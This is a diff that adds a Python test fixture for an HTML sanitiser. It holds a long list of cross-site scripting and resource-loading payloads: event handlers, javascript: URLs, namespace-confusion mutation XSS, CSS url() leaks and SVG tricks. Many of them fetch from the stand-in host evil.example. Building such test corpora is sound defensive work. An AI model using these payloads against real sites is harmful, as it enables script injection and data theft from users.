@@ -1,0 +1,72 @@
+"""Pages of our own making, each of which tries to run `ran()` or to ask `evil.example` for something.
+
+They are ways in that were known elsewhere, spelt anew: handlers, script addresses, embeddings, styles, and above all what
+a sanitiser and a browser may read differently (namespaces, raw text, foster parents, templates).
+"""
+
+HOSTILE = [
+    # plain
+    "<script>ran()</script>", "<script src=//evil.example/a.js></script>", "<script type=module>ran()</script>",
+    "<script type=importmap>{\"imports\":{\"a\":\"//evil.example/a.js\"}}</script><script type=module>import 'a'</script>",
+    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/p\"]}]}</script>",
+    "<svg><script>ran()</script></svg>", "<svg><script href=//evil.example/a.js /></svg>", "<math><script>ran()</script></math>",
+    "<img src=//evil.example/a.gif>", "<img src=x onerror=ran()>", "<img srcset='//evil.example/a 1x, //evil.example/b 2x'>",
+    "<image src=x onerror=ran()>", "<picture><source srcset=//evil.example/p><img></picture>", "<body onload=ran()>", "<body onpageshow=ran()>",
+    "<html onclick=ran()><body onfocus=ran() background=//evil.example/b>", "<input autofocus onfocus=ran()>", "<video autoplay src=//evil.example/v onerror=ran()></video>",
+    "<audio autoplay src=//evil.example/v onerror=ran()></audio>", "<video poster=//evil.example/p><source src=//evil.example/v><track default src=//evil.example/t></video>",
+    "<details open ontoggle=ran()><summary>x</summary>y</details>", "<marquee onstart=ran()>x</marquee>", "<select onfocus=ran() autofocus><option>x</select>",
+    "<div contenteditable autofocus onfocus=ran()>x</div>", "<button onclick=ran()>x</button>", "<a onclick=ran() href=#>x</a>", "<p oncontentvisibilityautostatechange=ran() style=content-visibility:auto>x",
+    "<style>@keyframes a{}</style><p style=animation:a onanimationstart=ran()>x", "<p onpointerover=ran() popover id=p>x</p><button popovertarget=p>y</button>",
+    # addresses that are scripts
+    "<a href=javascript:ran()>x</a>", "<a href=' &#1;javascript:ran()'>x</a>", "<a href='java\tscript:ran()'>x</a>", "<a href='JAVA&NewLine;SCRIPT:ran()'>x</a>",
+    "<a href='javascript&colon;ran()'>x</a>", "<a href=data:text/html,<script>ran()</script>>x</a>", "<a href=blob:null/1>x</a>", "<a href='\x01javascript:ran()' target=_self>x</a>",
+    "<a href=//evil.example ping=//evil.example/ping>x</a>", "<area href=javascript:ran() shape=default>", "<map name=m><area href=javascript:ran() coords=0,0,99,99></map><img usemap=#m src=x width=99 height=99>",
+    "<form action=javascript:ran()><input type=submit></form>", "<form action=//evil.example/f><input name=a value=b><button>x</button></form>", "<button form=f formaction=javascript:ran()>x</button><form id=f></form>",
+    "<form><input type=image src=//evil.example/i formaction=javascript:ran()></form>", "<isindex action=javascript:ran() type=submit>", "<object data=javascript:ran()></object>", "<embed src=javascript:ran()>",
+    "<iframe src=javascript:ran()></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<iframe src=//evil.example/f loading=eager></iframe>", "<frameset onload=ran()><frame src=//evil.example/f></frameset>",
+    "<object data=//evil.example/o type=image/svg+xml></object>", "<embed src=//evil.example/e>", "<applet code=x archive=//evil.example/j></applet>", "<portal src=//evil.example/p></portal>", "<fencedframe></fencedframe>",
+    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=></object>", "<iframe src=data:text/html,<script>parent.ran()</script>></iframe>", "<xml src=//evil.example/x></xml>",
+    # what leads elsewhere by itself
+    "<meta http-equiv=refresh content='0;url=//evil.example/r'>", "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<base href=//evil.example/><img src=a><a href=b>x</a>",
+    "<link rel=stylesheet href=//evil.example/never.css>", "<link rel=prefetch href=//evil.example/a>", "<link rel=preload as=image href=//evil.example/a>", "<link rel=dns-prefetch href=//evil.example>",
+    "<link rel=preconnect href=//evil.example>", "<link rel=modulepreload href=//evil.example/m.js>", "<link rel=icon href=//evil.example/i.png>", "<link rel=manifest href=//evil.example/m>", "<link rel=import href=//evil.example/i>",
+    "<link rel=prerender href=//evil.example/a>", "<link rel=expect blocking=render href=#x>", "<html manifest=//evil.example/m>", "<meta http-equiv=Link content='</a>;rel=preload'>", "<meta http-equiv=set-cookie content=a=b>",
+    "<link rel=compression-dictionary href=//evil.example/d>", "<img attributionsrc=//evil.example/a>", "<link rel=stylesheet href=data:text/css,*%7Bbackground:url(//evil.example/d)%7D>",
+    # styles
+    "<style>@import '//evil.example/i.css'</style>", "<style>@import url(//evil.example/i.css) screen;</style>", "<style>@\\69mport '//evil.example/i.css';</style>", "<style>p{background:url(//evil.example/b)}</style><p>x",
+    "<style>p{background:\\75rl(//evil.example/b)}</style><p>x", "<style>p{background:u\\\nrl(//evil.example/b)}</style><p>x", "<style>p{background:image-set('//evil.example/s' 1x)}</style><p>x", "<style>p{background:-webkit-image-set(url(//evil.example/s) 1x)}</style><p>x",
+    "<style>p{--a:url(//evil.example/v);background:var(--a)}</style><p>x", "<style>@font-face{font-family:f;src:url(//evil.example/f.woff2)}p{font-family:f}</style><p>x", "<style>p::before{content:url(//evil.example/c)}</style><p>x",
+    "<style>ul{list-style-image:url(//evil.example/l)}</style><ul><li>x</ul>", "<style>p{cursor:url(//evil.example/c),auto}</style><p>x", "<style>p{filter:url(//evil.example/f#x)}</style><p>x", "<style>p{mask:url(//evil.example/m#x)}</style><p>x",
+    "<style>p{shape-outside:url(//evil.example/s);float:left}</style><p>x", "<style>p{border-image:url(//evil.example/b) 1}</style><p>x", "<style>p{background:url('javascript:ran()')}</style><p>x", "<style>p{-moz-binding:url(//evil.example/b)}</style><p>x",
+    "<style>p{behavior:url(//evil.example/b)}</style><p>x", "<p style='background:url(//evil.example/b)'>x", "<p style='background:url(&quot;//evil.example/b&quot;)'>x", "<p style=\"background:u&#x72;l(//evil.example/b)\">x", "<p style='background:/**/url(/**///evil.example/b)'>x",
+    "<p style='width:expression(ran())'>x", "<p style='}body{background:url(//evil.example/b)'>x", "<style>p{}</style ><style>}*{background:url(//evil.example/b)}</style><p>x", "<style><!-- p{background:url(//evil.example/b)} --></style><p>x",
+    "<style>@media all{@supports(color:red){p{background:url(//evil.example/b)}}}</style><p>x", "<style>p{&:not(x){background:url(//evil.example/n)}}</style><p>x", "<style>@layer a{p{background:url(//evil.example/l)}}</style><p>x", "<style>@namespace url(//evil.example/n);</style>",
+    "<style>p{background:url(//evil.example/unclosed", "<style>p{background:url('//evil.example/bad\n')}</style><p>x", "<style>@import url(//evil.example/i.css) layer(a) supports(color:red) screen;</style>", "<style>@container (width>0){p{background:url(//evil.example/q)}}</style><p>x",
+    "<style>@page{background:url(//evil.example/p)}</style>", "<style>@property --a{syntax:'<url>';inherits:false;initial-value:url(//evil.example/a)}p{background:var(--a)}</style><p>x", "<style>p{background:cross-fade(url(//evil.example/a),url(//evil.example/b),50%)}</style><p>x",
+    "<style>p{background:src('//evil.example/s')}</style><p>x", "<style>p{offset-path:url(//evil.example/p)}</style><p>x", "<style>p{clip-path:url(//evil.example/c#a)}</style><p>x", "<style>p:has(a[href^=x]){background:url(//evil.example/h)}</style><p><a href=x>",
+    "<style>a::after{content:'</style><img src=x onerror=ran()>'}</style>", "<style>/*</style><img src=x onerror=ran()>*/</style>", "<style>p{content:'\\3c/style\\3e\\3cimg src=x onerror=ran()\\3e'}</style>", "<style type=text/less>@import '//evil.example/x'</style>",
+    # what is read differently after it was written
+    "<svg><style><img src=x onerror=ran()></style></svg>", "<math><style><img src=x onerror=ran()></style></math>", "<svg></p><style><a id='</style><img src=1 onerror=ran()>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", "<math><mtext><mglyph><style><img src=x onerror=ran()></style></mglyph></mtext></math>", "<svg><foreignObject><math><mi><style><img src=x onerror=ran()></style></mi></math></foreignObject></svg>",
+    "<math><annotation-xml encoding=text/html><style><img src=x onerror=ran()></style></annotation-xml></math>", "<math><annotation-xml encoding=text/html><p><style></math><img src=x onerror=ran()>", "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=ran()>'>",
+    "<noscript><p title='</noscript><img src=x onerror=ran()>'>", "<noscript><style></noscript><img src=x onerror=ran()></style>", "<noembed><img title='</noembed><img src=x onerror=ran()>'>", "<noframes><p title='</noframes><img src=x onerror=ran()>'>", "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
+    "<textarea><p title='</textarea><img src=x onerror=ran()>'>", "<title><p title='</title><img src=x onerror=ran()>'>", "<iframe><p title='</iframe><img src=x onerror=ran()>'>", "<plaintext><img src=x onerror=ran()>", "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
+    "<svg><title><style><img src=x onerror=ran()></style></title></svg>", "<svg><desc><noscript><img src=x onerror=ran()></noscript></desc></svg>", "<select><template><img src=x onerror=ran()></template></select>", "<select><style></select><img src=x onerror=ran()></style></select>",
+    "<table><td><svg><style></table><img src=x onerror=ran()></style>", "<table><style><img src=x onerror=ran()></style></table>", "<p><svg><p><style><g title='</style><img src=x onerror=ran()>'>", "<a><table><a><svg><style></a><img src=x onerror=ran()>",
+    "<div><template shadowrootmode=open><script>ran()</script><img src=x onerror=ran()><style>*{background:url(//evil.example/s)}</style></template></div>", "<div><template shadowrootmode=closed><slot onslotchange=ran()></slot></template>x</div>", "<template><img src=//evil.example/t onerror=ran()></template>",
+    "<div><template shadowrootmode=open><template shadowrootmode=open><img src=x onerror=ran()></template></template></div>", "<math><mi><template shadowrootmode=open><img src=x onerror=ran()></template></mi></math>", "<!--><img src=x onerror=ran()>-->", "<!-- --!><img src=x onerror=ran()> -->",
+    "<![CDATA[<img src=x onerror=ran()>]]>", "<svg><![CDATA[<img src=x onerror=ran()>]]></svg>", "<?xml-stylesheet href='//evil.example/x'?>", "<!DOCTYPE html [<!ENTITY x SYSTEM '//evil.example/e'>]>&x;", "<p id='&quot;><img src=x onerror=ran()>'>x", "<p title=`><img src=x onerror=ran()>`>x",
+    "<p class='a\" onclick=\"ran()'>x", "<p data-a='\"><script>ran()</script>'>x", "<img alt='\"><script>ran()</script>' src=x>", "<a href='https://ok.example/\"onclick=\"ran()'>x</a>", "<p lang='\"><script>ran()</script>'>x", "<p style='font-family:\"&quot;><script>ran()</script>\"'>x",
+    # drawings
+    "<svg onload=ran()></svg>", "<svg><a href=javascript:ran()><text y=20>x</text></a></svg>", "<svg><a xlink:href=javascript:ran()><rect width=99 height=99 /></a></svg>", "<svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a></svg>", "<svg><set attributeName=onmouseover to=ran() /></svg>",
+    "<svg><animate onbegin=ran() attributeName=x dur=1s /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x' /></svg>", "<svg><use href=//evil.example/u.svg#x /></svg>", "<svg><image href=//evil.example/i /></svg>", "<svg><image xlink:href=//evil.example/i /></svg>",
+    "<svg><feImage href=//evil.example/f /></svg>", "<svg><filter id=f><feImage href=//evil.example/f /></filter><rect filter=url(#f) width=9 height=9 /></svg>", "<svg><rect fill=url(//evil.example/f#x) width=9 height=9 /></svg>", "<svg><rect style=fill:url(//evil.example/f#x) width=9 height=9 /></svg>", "<svg><handler>ran()</handler></svg>",
+    "<svg><foreignObject><iframe src=javascript:ran()></iframe><img src=x onerror=ran()></foreignObject></svg>", "<svg><foreignObject><script>ran()</script></foreignObject></svg>", "<svg><discard onbegin=ran() /></svg>", "<svg><style>@import '//evil.example/i.css';rect{fill:url(//evil.example/s#x)}</style><rect width=9 height=9 /></svg>",
+    "<svg><mask id=m><image href=//evil.example/m /></mask></svg>", "<svg><textPath href=//evil.example/t#x>x</textPath></svg>", "<svg xml:base=//evil.example/><use href=#x /></svg>", "<svg><tref xlink:href=//evil.example/t /></svg>", "<svg><cursor xlink:href=//evil.example/c /></svg>", "<svg><font-face-uri xlink:href=//evil.example/f /></svg>",
+    "<math href=javascript:ran()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>", "<math><mi xlink:href=javascript:ran()>x</mi></math>", "<math><semantics><annotation-xml encoding=image/svg+xml><svg onload=ran() /></annotation-xml></semantics></math>",
+    # names that hide what our own script needs, and other oddities
+    "<form name=body><input name=attributes></form><img name=getSelection><img name=cookie>", "<a id=ran href=javascript:ran()>x</a>", "<p is=x-evil onclick=ran()>x</p>", "<x-evil onclick=ran()>x</x-evil>", "<slot onslotchange=ran()>x</slot>", "<dialog open onclose=ran()><form method=dialog><button>x</button></form></dialog>",
+    "<p accesskey=x onclick=ran() tabindex=1>x", "<bgsound src=//evil.example/b>", "<keygen autofocus onfocus=ran()>", "<command onclick=ran()>", "<spacer src=//evil.example/s>", "<layer src=//evil.example/l></layer>", "<table background=//evil.example/t><tr><td background=//evil.example/d>x</table>", "<input type=image src=//evil.example/i>",
+    "<p \x00onclick=ran()>x", "<scr\x00ipt>ran()</script>", "\ufeff<script>ran()</script>", "<button commandfor=d command=show-modal>x</button><dialog id=d onbeforetoggle=ran()></dialog>", "<input type=search onsearch=ran() incremental>", "<img src=data:image/svg+xml,<svg%20xmlns='http://www.w3.org/2000/svg'%20onload='ran()'/>>",
+    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/i'/><script>ran()</script></svg>\">", "<p style=\"background:url(&quot;data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/i'/></svg>&quot;)\">x",
+]  # fmt: skip
